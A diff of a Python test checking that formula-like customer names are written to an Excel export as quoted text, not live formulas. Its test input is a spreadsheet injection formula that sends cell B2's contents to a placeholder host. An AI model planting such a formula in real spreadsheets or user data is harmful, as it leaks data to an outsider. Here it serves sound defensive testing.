@@ -32,10 +32,10 @@ def test_formula_like_names_stay_text(tmp_path):
     book = archetypes()
     evil = '=HYPERLINK("http://x/?p="&B2,"x")'
     customers = tuple(replace(c, name=evil) if c.id == "healthy" else c for c in book.customers)
-    result = assess(replace(book, customers=customers, _index={}), load_profile())
+    result = assess(replace(book, customers=customers), load_profile())
     wb = load_workbook(write_accounts_xlsx(result, tmp_path / "a.xlsx"))
     cell = wb["Tiers"]["B2"]
-    assert cell.data_type == "s" and cell.value == "'" + evil
+    assert cell.data_type == "s" and cell.quotePrefix and cell.value == evil
 
 
 def test_json_lists_ids_and_round_trips():
